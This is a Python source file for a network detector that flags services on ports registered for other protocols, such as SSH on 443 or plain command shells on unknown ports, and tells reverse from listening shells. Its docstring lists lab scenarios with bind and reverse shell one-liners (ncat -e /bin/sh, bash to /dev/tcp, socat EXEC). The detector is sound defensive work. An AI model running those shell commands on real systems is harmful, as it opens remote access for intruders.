"""Backdoor port: what speaks at a port is not what the port is for.

What it is:
    A port number is only an agreement: IANA registers 443 for HTTPS and 53 for DNS, and packet filters let
    them pass for that reason. So whoever wants through puts something else there: SSH on 443, a web server
    on 53, a shell on a port that mail uses. And some programs for remote control are known for their own
    port. It works on the transport layer, where the port is; the proof lies in the first octets of what is
    said.

Exchange:
    inside host                      outside host
       | -- SYN, port 443 ------------> |   (the filter allows HTTPS)
       | <-- "SSH-2.0-OpenSSH_9.2" ---- |   (this is no TLS)
       | -- "SSH-2.0-OpenSSH_9.2" ----> |

How it is recognised:
    By content, at ports whose protocol is known: the server speaks SSH, HTTP, TLS, SMTP, FTP, POP3, IMAP,
    VNC or telnet, and another protocol is registered for the port; or, at a port for TLS, at least `lines`
    segments each way are plain text. Or a connection of at least `seconds` with data both ways to a port
    that programs for remote control are known for. That is told at low severity; where a command line is
    seen in it, or at a port that instructions for shells use, at medium. So is a command line at any port of
    which nothing is known, where the conversation is seen from its handshake on, nobody is asked for a
    login, and at least `prompts` segments are of it: the answer of `id`, the greeting of cmd.exe, or a
    prompt with user, host and directory and nothing behind it, as of one who waits for orders.
    The victim is the side whose command line it is: the server of a backdoor that listens, the client of one
    that calls its master out of the network (reverse shell). The attacker is the side that gives the orders.
    Where no command line is seen, nobody is accused.

What looks the same:
- STARTTLS: TLS begins later within SMTP, IMAP, POP3, FTP, LDAP or a database; TLS is allowed there.
- Alternative ports (8080, 8443, 2222, 3000 …): anything may be there, so they are not judged.
- A client that speaks HTTP to a TLS port by mistake: the server says so and closes.
- A tunnel that the network's owners put on 443 themselves, for travellers. Ask them.
- A server of one's own at a port that programs for remote control are known for: name it in `known_servers`;
  then a connection alone, of which nothing is recognised, is not told.
- Developers' servers at 1337, 4242 or 9001, which speak HTTP: no command line.
- An administrator's shell, or a debugger's console, without encryption at such a port: ask who gave the
  orders.
- Console servers and telnet at ports of their own ask for a login first.
- Chats, logs and files that quote a command line: after the prompt the line goes on, or it ends.

How to stop it:
- A proxy or firewall that checks the protocol, not only the port.
- Let only those hosts speak to the outside that must, and through the proxy.
- Look at the process that holds the port (`ss -tlnp`, `lsof -i`).

Limits:
    What is within TLS is not seen: a tunnel that really speaks TLS at port 443 looks like the web. Of UDP
    nothing is judged, and at port 80 only what the server says. Content is read from segments that end a
    message (PSH). A prompt of "#" or "$" alone is no command line: it takes the answer of `id` or a prompt
    with a name in it. Where the shell itself asks for a password it is taken for a console server.

In the lab:
    python -m lab.scenarios backdoor-port-ssh     (sshd -p 443)
    python -m lab.scenarios backdoor-port-shell   (ncat -l -p 4444 -e /bin/sh)
    python -m lab.scenarios backdoor-port-held-1337  (python3 -c '… pty.spawn("/bin/sh")', nc 10.20.0.21 1337)
    python -m lab.scenarios backdoor-port-held-bash  (bash -i >& /dev/tcp/198.51.100.66/4444 0>&1)
    python -m lab.scenarios backdoor-port-held-pty  (socat TCP6-LISTEN:9999,fork EXEC:/bin/bash,pty,stderr)
    python -m lab.scenarios backdoor-port-held-reverse  (socat TCP6:[…]:31337 EXEC:/bin/sh)

References:
- RFC 6335, procedures for the service name and port number registry
- MITRE ATT&CK T1571, Non-Standard Port
"""

from __future__ import annotations

from collections import defaultdict
from collections.abc import Iterator

import numpy as np

from netanatomy.detect.detector import PAYLOAD, Detector, Kept, Proof, Verdict, threshold
from netanatomy.detect.misplaced_contents import CLASSES, COLUMNS, REMOTE, UNKNOWN, said
from netanatomy.detect.open_shells import SHELLS, sessions, shells
from netanatomy.detect.relations import First, Row, Summary, Totals
from netanatomy.detect.tables import Tables, kept
from netanatomy.layers.application.port_contents import EXPECTED, PROTOCOLS, REMOTE_CONTROL
from netanatomy.layers.application.port_contents import SHELLS as SHELL_PORTS
from netanatomy.schema.findings import Severity
from netanatomy.schema.frozen import frozen
from netanatomy.schema.match import Selector, where
from netanatomy.schema.network import Network
from netanatomy.schema.rules import Rule
from netanatomy.tables.text import address_text

TCP = 6  # Assigned Internet Protocol Numbers, IANA
KNOWN = CLASSES != UNKNOWN
KNOWN.flags.writeable = False
SECOND = 10**9  # ns
SHOWN = 5


@frozen
class Config:
    """Thresholds."""

    lines: int = threshold(
        3,
        "segments",
        "of plain text each way at a port for TLS",
        "one may be chance: 6 octets are text by 0.3 %",
    )
    seconds: int = threshold(
        20, "s", "that a connection to a known port lasts", "a scan's or a short download's takes less"
    )
    prompts: int = threshold(
        2,
        "segments",
        "of a command line without a login, at a port of which nothing is known",
        "one may be quoted: Snort tells the answer of id alone (sid 498)",
    )
    shortest: int = threshold(
        6, "octets", "of a segment that is looked at", "fewer are text, or a hello, by chance"
    )


def observe(tables: Tables, config: Config) -> Kept:
    """Segments that say what a port is not for, and long visits to known ports."""
    connections = tables.connections
    yield from said(tables.packets, config.shortest)
    if connections.count:
        yield from sessions(connections, KNOWN)
    held = np.flatnonzero(CLASSES[connections.numbers("id.resp_p")] == REMOTE)
    if len(held):
        lasted = (connections.numbers("last_time") - connections.numbers("ts"))[
            held
        ] >= config.seconds * SECOND
        both = (connections.at("orig_data_pkts", held) > 0) & (connections.at("resp_data_pkts", held) > 0)
        held = held[lasted & both & connections.valid_at("syn_ack_delay", held)]
        columns = ("client=id.orig_h", "server=id.resp_h", "port=id.resp_p", "start=ts", "end=last_time")
        yield (
            "held",
            kept(
                connections,
                held,
                columns,
                connections=1,
                packets=connections.at("orig_pkts", held) + connections.at("resp_pkts", held),
            ),
        )
        yield (
            "begun",
            kept(connections, held, (*columns[:3], "time=ts", "frame=first_frame"), depth=np.uint8(0)),
        )


def judge(summary: Summary, config: Config, network: Network) -> Iterator[Verdict]:
    """One verdict for each pair of hosts, port and content."""
    heard = summary.groups("said", "client", "server", "port")
    held = summary.groups("held", "client", "server", "port")
    frames = summary.groups("frames", "client", "server", "port") if heard else {}
    begun = summary.groups("begun", "client", "server", "port") if held else {}
    for party, rows in heard.items():
        content = _agreed(rows, config)
        if content:
            yield _verdict(party, content, rows, frames.get(party, []), [], _calls(rows))
    for party, rows, places in shells(summary, config.prompts):
        yield _verdict(party, "shell", rows, places, [], _calls(rows))
    for party, rows in held.items():
        if party not in heard and not network.is_known_server(address_text(party[1])):
            # Nothing proves who serves whom: of one's own host and a stranger, one's own is in danger.
            ours, theirs = (network.is_home(address_text(address)) for address in party[:2])
            calls = ours is True and theirs is False
            yield _verdict(party, "", rows, [], begun.get(party, []), calls)


def _calls(rows: list[Row]) -> bool:
    """Whether it is the client whose command line is seen."""
    shell = [row for row in rows if row["content"] == "shell"]
    asked = sum(int(row["packets"]) for row in shell if row["asks"])
    return 2 * asked > sum(int(row["packets"]) for row in shell)


def _agreed(rows: list[Row], config: Config) -> str:
    """The content that both sides (of plain text: often enough) or the server alone speak."""
    counts: dict[tuple[str, bool], int] = defaultdict(int)
    for row in rows:
        counts[row["content"], row["asks"]] += row["packets"]
    for (content, asks), _ in sorted(counts.items()):
        if content == "shell":
            return content
        if content == "text":
            lines = sum(count for (name, _), count in counts.items() if name in {"text", "shell"})
            back = sum(
                count for (name, client), count in counts.items() if not client and name in {"text", "shell"}
            )
            if min(back, lines - back) >= config.lines:
                return content
        elif not asks and (counts.get((content, True)) or content not in {"http", "tls"}):
            return content
    return ""


def _verdict(
    party: tuple[bytes, bytes, int],
    content: str,
    rows: list[Row],
    frames: list[Row],
    begun: list[Row],
    calls: bool,
) -> Verdict:
    client, server, port = address_text(party[0]), address_text(party[1]), party[2]
    start, end = min(row["start"] for row in rows), max(row["end"] for row in rows)
    purpose = "which instructions for shells use" if port in SHELL_PORTS else "where nobody has to log in"
    if port in EXPECTED:
        purpose = f"which is for {EXPECTED[port][0]}"
    elif port in REMOTE_CONTROL:
        purpose = f"which {REMOTE_CONTROL[port]} is known for"
    proven = content == "shell"
    orders = server if calls else client
    what = PROTOCOLS.get(content, "something unknown")
    lasted = (end - start) // SECOND
    if proven and calls:
        reason = (
            f"{client} called {server} at TCP port {port}, {purpose}, and gave it a command line: the caller "
            "answers, and the listener gives the orders (reverse shell). "
            "Filters that let connections out by the port let it pass."
        )
    elif content:
        reason = f"{server} speaks {what} with {client} at TCP port {port}, {purpose}. "
        reason += "Filters that go by the port let it pass."
    else:
        reason = f"{client} and {server} exchanged data for {lasted} s at TCP port {port}, {purpose}. "
        reason += "What they say is not recognised."
    there = where(ip_source=client, ip_destination=server, ip_protocol=TCP, destination_port=port)
    back = where(ip_source=server, ip_destination=client, ip_protocol=TCP, source_port=port)
    return Verdict(
        subject=f"{client}>{server}:{port}",
        title=f"{client} gives a command line to {server} port {port}, {purpose}"
        if proven and calls
        else f"{server} port {port}, {purpose}: {what}",
        severity=Severity.MEDIUM if proven else Severity.LOW,
        confidence=0.8 if proven else 0.6 if content else 0.3,
        attackers=(orders,) if proven else (),
        victims=(client,) if calls else (server,),
        others={"client": (client,), "server": (server,)},
        start=start,
        end=end,
        counts={"port": port, "packets": sum(row["packets"] for row in rows)},
        reason=reason,
        proofs=(
            *(
                Proof(row["frame"], row["depth"], PAYLOAD, f"says {PROTOCOLS[row['content']]}")
                for row in sorted(frames, key=lambda row: row["frame"])
                if row["content"] in {content, "text"}
            ),
            *(
                Proof(row["frame"], row["depth"], "destination_port", "first segment of the connection")
                for row in begun[:SHOWN]
            ),
        ),
        frames=sum(row["packets"] for row in rows),
        # All that the two say there: where it begins and ends is not in these few segments.
        scope=(Selector(there), Selector(back)),
        rule=Rule(matches=there),
        advice=("look at the process that holds the port: ss -tlnp",),
    )


DETECTOR = Detector(
    name="backdoor-port",
    title="Service on the wrong port",
    layer="transport",
    techniques=("T1571",),
    config=Config(),
    relations={
        "said": Totals(("client", "server", "port", "content", "asks"), ("packets",), ("start",), ("end",)),
        "held": Totals(("client", "server", "port"), ("connections", "packets"), ("start",), ("end",)),
        "frames": First(("client", "server", "port", "content", "asks")),
        "begun": First(("client", "server", "port")),
        **SHELLS,
    },
    observe=observe,
    judge=judge,
    packets=COLUMNS,
    connections=(
        "id.orig_h",
        "id.resp_h",
        "id.resp_p",
        "ts",
        "last_time",
        "syn_ack_delay",
        "orig_data_pkts",
        "resp_data_pkts",
        "orig_pkts",
        "resp_pkts",
        "first_frame",
    ),
)
